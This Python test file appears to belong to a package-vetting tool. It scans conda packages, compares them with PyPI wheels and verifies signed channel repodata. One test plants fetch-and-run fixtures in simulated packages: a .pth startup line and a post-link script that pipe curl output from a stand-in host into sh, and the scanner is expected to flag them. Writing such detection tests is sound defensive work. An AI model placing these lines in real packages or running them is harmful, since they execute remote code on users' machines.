"""Packages of conda as users meet them: scanned, compared with PyPI's, looked up in a channel."""

import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from airlock.cli import airlock as command
from tests.checks.packing import pack_wheel
from tests.functional.conftest import NO_DATABASE, airlock
from tests.functional.test_verify import VALIDATOR as VERIFY_VALIDATOR
from tests.simulators.condas import PACKAGE, make_conda
from tests.simulators.upstream import Upstream
from tests.unit.report.test_diff import VALIDATOR

CODE = {"anchor/__init__.py": b"WEIGHT = 1\n", "anchor/core.py": b"def drop():\n    return 1\n"}
ENTRY = b"""\
#!/opt/conda/bin/python
import re
import sys

from anchor.core import drop

if __name__ == '__main__':
    sys.argv[0] = re.sub(r'(-script\\.pyw?|\\.exe)?$', '', sys.argv[0])
    sys.exit(drop())
"""
BUSY = b"import os\n\nos.system('true')\n"


def repackaged(**more: bytes) -> dict[str, bytes]:
    inside = {f"site-packages/{path}": data for path, data in {**CODE, **more}.items()}
    return {
        **inside,
        "site-packages/anchor-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: anchor\n",
        "site-packages/anchor-1.0.dist-info/INSTALLER": b"conda\n",
        "site-packages/anchor/__pycache__/core.cpython-311.pyc": b"\x00",
        "bin/anchor": ENTRY,
    }


def invoke(*words: str | Path) -> Result:
    """Run a command in this process, which saves most of its time; it examines in others."""
    words = (words[0], "--no-progress", *words[1:])
    return CliRunner().invoke(command, list(map(str, words)), env={"AIRLOCK_DB": str(NO_DATABASE)})


class Desk:
    def __init__(self, folder: Path, upstream: Upstream) -> None:
        self.folder = folder
        self.upstream = upstream
        self.wheel = pack_wheel(folder, CODE, filename="anchor-1.0-py3-none-any.whl")
        upstream.add(self.wheel.name, self.wheel.read_bytes())

    def package(self, name: str, **changes: Any) -> Path:
        folder = self.folder / name
        folder.mkdir()
        return make_conda(folder, **{"files": repackaged(), **changes})

    def diff(self, *words: str | Path) -> tuple[int, dict[str, Any]]:
        done = invoke("diff", *words, "--format", "json", "--index", self.upstream.url)
        document: dict[str, Any] = json.loads(done.stdout)
        VALIDATOR.validate(document)
        return done.exit_code, document


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    with Upstream() as upstream:
        yield Desk(tmp_path_factory.mktemp("desk"), upstream)


def test_a_scan_sees_what_runs(desk: Desk) -> None:
    quiet = desk.package("quiet", files={"site-packages/anchor.py": b"WEIGHT = 1\n"})
    done = airlock("scan", quiet)
    assert done.returncode == 0, done.stdout
    startup = {"site-packages/anchor_init.pth": b"import os; os.system('curl a.example|sh')\n"}
    busy = invoke("scan", desk.package("busy", files=startup))
    assert busy.exit_code in {1, 3}
    assert "anchor_init.pth" in busy.stdout
    script = {"bin/.anchor-post-link.sh": b"curl http://198.51.100.7/x | sh\n"}
    linked = invoke("scan", desk.package("linked", files=script))
    assert linked.exit_code in {1, 3}, linked.stdout
    assert "anchor-1.0.data/scripts/.anchor-post-link.sh" in linked.stdout


def test_a_folder_may_hold_packages(desk: Desk, tmp_path: Path) -> None:
    make_conda(tmp_path, {"site-packages/anchor.py": b"WEIGHT = 1\n"})
    done = invoke("scan", tmp_path)
    assert done.exit_code == 0
    assert PACKAGE in done.stdout


def test_what_repackages_a_release_is_clean(desk: Desk) -> None:
    code, document = desk.diff("anchor==1.0", desk.package("honest"))
    (one,) = document["diffs"]
    assert code == 0, document
    assert one["old"]["filename"] == desk.wheel.name
    assert one["source"]["foreign"] == []
    made = {told["path"]: told["how"] for told in one["source"]["generated"]}
    assert made["*.data/scripts/anchor"] == "a command that calls a function"
    assert made["anchor/__pycache__/core.cpython-311.pyc"].startswith("Python's compiler")


@pytest.mark.parametrize("swapped", [False, True])
def test_what_the_release_has_not_is_held(desk: Desk, *, swapped: bool) -> None:
    files = repackaged(**{"anchor/core.py": BUSY})
    path = desk.package(f"bad-{swapped}", files=files)
    words = (path, desk.wheel) if swapped else (desk.wheel, path)
    code, document = desk.diff(*words)
    (one,) = document["diffs"]
    assert code == 3
    assert one["new"]["filename"] == path.name
    assert one["differences"][0]["path"] == "anchor/core.py"
    assert "when it is imported" in one["differences"][0]["message"]


def repodata(path: Path, *keys: Ed25519PrivateKey, **changes: Any) -> dict[str, Any]:
    data = path.read_bytes()
    entry = {
        "name": "anchor",
        "version": "1.0",
        "build": "pyh1234567_0",
        "build_number": 0,
        "depends": ["python"],
        "sha256": hashlib.sha256(data).hexdigest(),
        "size": len(data),
    }
    content = json.dumps(entry, indent=2, sort_keys=True).encode()
    signatures = {
        key.public_key().public_bytes_raw().hex(): {"signature": key.sign(content).hex()}
        for key in keys
    }
    return {
        "info": {"subdir": "noarch"},
        "packages": {},
        "packages.conda": {path.name: {**entry, **changes}},
        "signatures": {path.name: signatures} if keys else {},
    }


def verify(*words: str | Path, code: int) -> str:
    done = CliRunner().invoke(command, ["verify", "--offline", *map(str, words)])
    assert done.exit_code == code, done.output
    return done.output


def test_a_package_is_the_one_that_its_channel_lists(desk: Desk, tmp_path: Path) -> None:
    path, listing = desk.package("listed"), tmp_path / "repodata.json"
    ada, ben = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
    public, other = (key.public_key().public_bytes_raw().hex() for key in (ada, ben))

    def told(document: dict[str, Any], *keys: str, code: int) -> str:
        listing.write_text(json.dumps(document))
        options = [word for key in keys for word in ("--channel-key", key)]
        return verify(path, "--repodata", listing, *options, code=code)

    assert "channel       verified" in told(repodata(path), code=0)
    assert "and signed" in told(repodata(path, ada), public, code=0)
    assert "not looked at (--channel-key)" in told(repodata(path, ada), code=0)
    assert "not signed by the channel's key" in told(repodata(path, ada), public, other, code=1)
    assert "other bytes" in told(repodata(path, sha256="0" * 64), code=1)
    assert "is not over what it lists" in told(repodata(path, ada, depends=[]), public, code=1)
    assert "lists anchor-1.1" in told(repodata(path, version="1.1"), code=1)
    assert "without a SHA-256" in told(repodata(path, sha256=None), code=3)
    assert "does not list it" in told({"packages": {}}, code=3)
    assert "lists no packages" in told({"nothing": 1}, code=1)
    listing.write_text("{")
    assert "cannot be read" in verify(path, "--repodata", listing, code=1)
    listing.write_text(json.dumps(repodata(path, ada)))
    report = verify(path, "--repodata", listing, "--format", "json", code=0)
    VERIFY_VALIDATOR.validate(json.loads(report))


@pytest.mark.parametrize(
    "words",
    [
        ["--channel-key", "ab" * 32],
        ["--repodata", "https://channel.example/repodata.json"],
    ],
)
def test_wrong_usage_has_exit_code_2(desk: Desk, words: list[str]) -> None:
    verify(desk.wheel, *words, code=2)
